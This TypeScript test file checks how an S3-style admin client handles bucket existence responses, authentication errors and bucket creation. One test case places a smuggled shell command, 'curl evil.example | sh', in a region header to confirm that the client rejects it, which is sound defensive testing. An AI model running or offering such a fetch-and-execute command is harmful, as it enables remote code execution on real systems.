import { afterEach, describe, expect, it } from "vitest";
import {
  closeServers,
  failure,
  refusal,
  scripted,
  xml,
} from "./testing-fixtures/scripted-admin.ts";

afterEach(closeServers);

describe("whether a bucket is there", () => {
  const west = { "x-amz-bucket-region": "us-west-2" };

  it.each([
    ["present", [{ headers: west }], { state: "present", region: "us-west-2" }],
    ["present on a store without regions", [{}], { state: "present", region: undefined }],
    ["absent", [{ status: 404 }, refusal(404, "NoSuchBucket")], { state: "absent" }],
    [
      "another's",
      [{ status: 403, headers: west }, refusal(403, "AccessDenied")],
      { state: "forbidden", region: "us-west-2" },
    ],
    [
      "ours, but HEAD alone is denied",
      [{ status: 403 }, xml("<LocationConstraint>EU</LocationConstraint>")],
      { state: "forbidden", region: "eu-west-1" },
    ],
    [
      "elsewhere, at a place that is no region",
      [{ status: 301, headers: { "x-amz-bucket-region": "x; curl evil.example | sh" } }],
      { state: "elsewhere", region: undefined },
    ],
    ["elsewhere", [{ status: 301, headers: west }], { state: "elsewhere", region: "us-west-2" }],
    [
      "elsewhere by a 400",
      [{ status: 400, headers: west }],
      { state: "elsewhere", region: "us-west-2" },
    ],
    [
      "elsewhere by the second answer",
      [
        { status: 400 },
        refusal(400, "AuthorizationHeaderMalformed", "wrong", "<Region>eu-west-1</Region>"),
      ],
      { state: "elsewhere", region: "eu-west-1" },
    ],
    [
      "made just now",
      [{ status: 404 }, xml("<LocationConstraint/>")],
      { state: "present", region: "us-east-1" },
    ],
  ])("%s", async (_, answers, expected) => {
    const { admin } = await scripted(...answers);
    expect(await admin().headBucket("sims")).toEqual(expected);
  });

  it.each([
    [403, "InvalidAccessKeyId", "Unauthenticated"],
    [403, "SignatureDoesNotMatch", "Unauthenticated"],
    [403, "RequestTimeTooSkewed", "ConfigurationError"],
    [400, "ExpiredToken", "Unauthenticated"],
  ])("a %i for bad keys (%s) is no foreign bucket but an error", async (status, s3Code, code) => {
    const { admin } = await scripted({ status }, refusal(status, s3Code));
    expect(await failure(admin().headBucket("sims"))).toMatchObject({ code, s3Code, status });
  });

  it("a 404 of another kind of server is not an absent bucket", async () => {
    const page = { status: 404, headers: { "content-type": "text/html" }, body: "<html>no</html>" };
    const { admin } = await scripted({ status: 404 }, page);
    expect((await failure(admin().headBucket("sims"))).code).toBe("NotSupported");
  });

  it("asks with the owner that the bucket must have", async () => {
    const { admin, asked } = await scripted({});
    await admin({ expectedBucketOwner: "123456789012" }).headBucket("sims");
    expect(asked[0]).toMatchObject({
      line: "HEAD /sims/",
      headers: { "x-amz-expected-bucket-owner": "123456789012" },
    });
  });
});

describe("making a bucket", () => {
  it("sends no LocationConstraint in us-east-1, and the region elsewhere", async () => {
    const { admin, asked } = await scripted({});
    await admin().createBucket({ bucket: "sims", region: "us-east-1" });
    await admin().createBucket({ bucket: "sims", region: "us-gov-west-1" });
    expect(asked[0]).toMatchObject({ line: "PUT /sims/", body: "" });
    expect(asked[1]?.body).toContain("<LocationConstraint>us-gov-west-1</LocationConstraint>");
    expect(asked[1]?.headers.authorization).toContain("/us-gov-west-1/s3/");
  });

  it("asks for the account's own namespace", async () => {
    const { admin, asked } = await scripted({});
    await admin().createBucket({
      bucket: "sims-123456789012-us-east-1-an",
      region: "us-east-1",
      namespace: "account-regional",
    });
    expect(asked[0]?.headers["x-amz-bucket-namespace"]).toBe("account-regional");
  });

  it.each([
    ["BucketAlreadyExists", "another account"],
    ["BucketAlreadyOwnedByYou", "yours already"],
  ])("%s is told apart", async (s3Code, remedy) => {
    const { admin } = await scripted(refusal(409, s3Code));
    const error = await failure(admin().createBucket({ bucket: "sims", region: "us-east-1" }));
    expect(error).toMatchObject({ code: "AlreadyExists", s3Code, operation: "CreateBucket" });
    expect(error.remedy).toContain(remedy);
  });
});
